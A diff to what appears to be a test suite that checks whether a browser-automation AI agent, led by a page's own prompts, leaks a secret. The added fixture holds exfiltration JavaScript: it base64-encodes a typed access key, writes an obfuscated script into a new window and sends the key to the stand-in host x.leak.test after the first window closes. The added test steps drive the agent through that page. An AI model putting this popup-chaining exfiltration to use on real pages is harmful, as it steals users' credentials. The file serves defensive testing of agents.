@@ -128,7 +128,11 @@ needs(missing)('a model that obeys its pages', () => {
       const grab = 'oninput="grabbed(this.value)"'
       const file = 'onchange="this.files[0]?.text().then(grabbed)"'
       const asking = `<script>${out}</script><input aria-label="Access key" ${grab}><input aria-label=Paste ${grab}>
-<input type=password aria-label=Password ${grab}><input type=file aria-label=Paper ${file}><a download href="http://x.leak.test:${leak.port}/x?${SECRET}">Get it</a>`
+<input type=password aria-label=Password ${grab}><input type=file aria-label=Paper ${file}><button onclick="window.open('/window')">Open the form</button><a download href="http://x.leak.test:${leak.port}/x?${SECRET}">Get it</a>`
+      // The window that gets the text opens another one, and goes.
+      const outliving = `const u = 'http://x.leak.test:${leak.port}/x?' + btoa(document.querySelector('input').value); const w = window.open(''); w.document.write('<scr' + 'ipt>setTimeout(() => { new Image().src = ' + JSON.stringify(u) + ' }, 300)</scr' + 'ipt>'); window.close()`
+      site.pages['/window'] =
+        `<input aria-label="Access key"><button onclick="${outliving.replaceAll('"', '&quot;')}">On</button>`
       const secret = join(scene.folder, 'secret.txt')
       await writeFile(secret, SECRET)
       const result = (text: string): Entry => ({
@@ -158,6 +162,13 @@ needs(missing)('a model that obeys its pages', () => {
         'key by key': async () => {
           await call('browser_click', { ref: await into('textbox "Access key"') })
           for (const key of SECRET.slice(0, 8)) await call('browser_press', { key })
+        },
+        'a window of a window': async () => {
+          await call('browser_click', { ref: await into('button "Open the form"') })
+          await call('browser_tabs', { action: 'select', tab: 2 })
+          await call('browser_type', { ref: await into('textbox "Access key"'), text: SECRET })
+          await call('browser_click', { ref: await into('button "On"') })
+          await call('browser_wait', { seconds: 0.5 })
         },
         'a file': async () => call('browser_upload', { ref: await into('file "Paper"'), paths: [secret] }),
         'the protocol of the browser': () =>
@@ -189,7 +200,7 @@ needs(missing)('a model that obeys its pages', () => {
           expect(isObeyed, name).toBe(true)
           await call('browser_wait', { seconds: 0.3 })
           const names = scene.resolved.filter((host) => !/^(?:site|other|x\.leak)\.test$/.test(host))
-          const left = [...site.seen.filter((line) => line !== 'GET /'), ...leak.seen, ...names]
+          const left = [...site.seen.filter((line) => !/^GET \/(?:window)?$/.test(line)), ...leak.seen, ...names]
           if (left.length > 0) found.push(name)
           await scene.sessions.end(led.session)
         }
